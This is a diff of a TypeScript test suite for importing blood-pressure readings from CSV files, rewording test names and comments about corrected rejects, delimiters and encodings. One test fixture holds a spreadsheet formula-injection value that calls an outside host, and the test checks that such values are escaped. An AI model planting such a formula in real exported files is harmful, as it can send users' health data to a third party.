@@ -7,7 +7,7 @@ import { anImporter, bloodPressureMapping } from '#support/readingImports.ts'
 const kind = 'bloodPressure'
 const device = 'AGAIN-1'
 const base: ReadingMapping = { ...bloodPressureMapping('UTC'), device: { kind: 'constant', id: device } }
-/** A mapping by the columns of date, time of day, systolic and diastolic. */
+/** Mapping of the columns date, time of day, systolic and diastolic. */
 const mappingOf = ([date, clock, sys, dia]: [string, string, string, string], headerLine = 1): ReadingMapping => ({
   ...base,
   format: { ...base.format, headerLine },
@@ -15,7 +15,7 @@ const mappingOf = ([date, clock, sys, dia]: [string, string, string, string], he
   quantities: { systolic: { column: sys, unit: 'mmHg' }, diastolic: { column: dia, unit: 'mmHg' } },
 })
 
-describe('a file of rejects, mended and sent again by the same mapping', () => {
+describe('a file of rejects, corrected and imported with the same mapping', () => {
   let platform: Platform
   let admin: ReturnType<typeof anImporter>
   beforeAll(async () => {
@@ -61,7 +61,7 @@ describe('a file of rejects, mended and sent again by the same mapping', () => {
     expect(await stored()).toEqual(['01-05 08:00 120/80', '01-06 08:00 121/81', '01-07 08:00 122/82'])
   })
 
-  test('a line that cannot be divided into cells has no formula there, and is mended as the others', async () => {
+  test('a line that cannot be divided into cells is escaped, and corrected like the others', async () => {
     const mapping = mappingOf(['Date', 'Time', 'SYS', 'DIA'])
     const lines = [
       '2026-01-05,08:00,120,80,=WEBSERVICE("http://x/"&C2)',
@@ -85,7 +85,7 @@ describe('a file of rejects, mended and sent again by the same mapping', () => {
     expect(await stored()).toEqual([5, 6, 7, 8].map((day) => `01-0${day} 08:00 12${day - 5}/8${day - 5}`))
   })
 
-  test('saved with semicolons or tabs, as a spreadsheet of another language does', async () => {
+  test('is read with semicolons or tabs, as of a spreadsheet in another language', async () => {
     const mapping = mappingOf(['Date', 'Time', 'SYS', 'DIA'])
     const text = 'Date,Time,SYS,DIA,HR\n2026-01-05,08:00,x,80,60\n2026-01-06,08:00,y,81,61\n'
     const { rejects } = await admin.imported({ kind, mapping, fileId: await admin.uploaded(text) })
@@ -98,7 +98,7 @@ describe('a file of rejects, mended and sent again by the same mapping', () => {
     expect(await stored()).toEqual(['01-05 08:00 120/80', '01-06 08:00 121/81'])
   })
 
-  test('without the mark of their encoding, as some editors save them', async () => {
+  test('is read without a byte order mark, as some editors save it', async () => {
     const gerat: ReadingMapping = {
       ...bloodPressureMapping('UTC'),
       format: { ...base.format, encoding: 'windows-1252' },
@@ -113,7 +113,7 @@ describe('a file of rejects, mended and sent again by the same mapping', () => {
       imported: 1,
       faults: [{ code: 'unknownDevice', values: { device: 'KÜCHE' } }],
     })
-    // A spreadsheet may save them in the encoding of its own.
+    // A spreadsheet may save them in its system encoding.
     const own = Buffer.from(mended.replace(',120,', ',121,').replace('08:00', '10:00'), 'latin1')
     const saved = await admin.imported({ kind, mapping: gerat, fileId: await admin.uploaded(own) })
     expect(saved.report).toMatchObject({ imported: 1, rejected: 1 })
